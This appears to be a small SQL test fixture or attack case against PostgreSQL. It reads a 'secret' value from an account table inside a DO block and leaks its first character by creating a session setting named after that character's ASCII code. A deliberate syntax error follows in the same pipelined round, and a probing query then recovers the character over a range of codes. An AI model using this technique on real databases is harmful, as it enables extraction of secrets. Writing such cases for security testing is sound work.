-- Makes up a parameter by a letter, with a statement behind it in the same round that is no SQL, and asks for it.
-- wants: read
-- shows: letter-116
-- attack:
-- pipeline
DO $$ DECLARE value text; BEGIN
  EXECUTE 'SELECT secret FROM vlt_' || 'account WHERE id = 1' INTO value;
  PERFORM set_config('x.y1_' || ascii(value), '', true);
END $$;
SELEC 1;
-- apart
-- simple
-- repeat: 112..118
SELECT 'letter' || '-{n}' WHERE current_setting('x.y1_{n}', true) IS NOT NULL;
